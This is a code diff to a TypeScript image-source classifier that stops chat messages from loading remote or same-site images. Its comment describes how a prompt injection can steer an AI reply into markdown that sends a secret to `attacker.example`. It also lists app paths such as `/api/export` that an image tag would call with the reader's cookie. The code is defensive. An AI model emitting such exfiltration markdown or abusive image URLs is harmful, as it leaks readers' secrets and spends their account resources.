@@ -1,29 +1,34 @@
 /**
  * Where an image written in stored text would be fetched from. A reply can be steered by a prompt
  * injection into `![](https://attacker.example/?q=<secret>)`; rendering it would send the secret the moment the
- * thread opens. So only the app's own images (and data:/blob: ones, which fetch nothing) are drawn; anything else is
- * "remote" and shown as a placeholder naming its host.
+ * thread opens. So only images that fetch nothing (data: and blob:) are drawn; another origin's is "remote" and shown as
+ * a placeholder naming its host.
+ *
+ * A URL of the app itself is not drawn either: an `<img>` is a GET with the reader's session cookie, and the app's own
+ * paths do work for it. `![](/api/export)` exported the reader's whole account (and spent their exports for the
+ * hour) each time the thread or a share of it was opened; `![](/threads/…?1)`, `?2`, … rendered a page on the server
+ * per image, hundreds per message, and `![](/share/…)` spent the reader's share-page budget. Nothing the app serves is
+ * an image a message needs: attachments come from storage through their own signed links.
  */
 export type ImageSource = { kind: "local"; src: string } | { kind: "remote"; href: string; host: string } | { kind: "invalid" };
 
-/** Stands for the page's origin while it is unknown (server rendering): relative URLs still resolve to it. */
-const UNKNOWN_ORIGIN = "https://page.invalid";
+/** A base no real URL has: a URL that resolves against it (a path, `?…`, `#…`) names the page's own site. */
+const OWN_SITE = "https://page.invalid";
 
 /**
- * `pageOrigin` is `location.origin` in the browser, null on the server: there an absolute URL to the app itself counts
- * as remote until hydration tells otherwise (never the reverse, so nothing is fetched that should not be).
+ * The same answer on the server and in the browser (no page origin is needed): a relative URL is the app's own and
+ * never fetched, and an absolute one, the app's own included, is remote.
  */
-export function classifyImage(src: string, pageOrigin: string | null): ImageSource {
+export function classifyImage(src: string): ImageSource {
   const raw = src.trim();
   if (/^(data:image\/|blob:)/i.test(raw)) return { kind: "local", src: raw };
-  const base = pageOrigin ?? UNKNOWN_ORIGIN;
   let url: URL;
   try {
-    url = new URL(raw, base);
+    url = new URL(raw, OWN_SITE);
   } catch {
     return { kind: "invalid" };
   }
   if (url.protocol !== "https:" && url.protocol !== "http:") return { kind: "invalid" };
-  if (url.origin === new URL(base).origin) return { kind: "local", src: raw };
+  if (url.origin === OWN_SITE) return { kind: "invalid" };
   return { kind: "remote", href: url.href, host: url.host };
 }
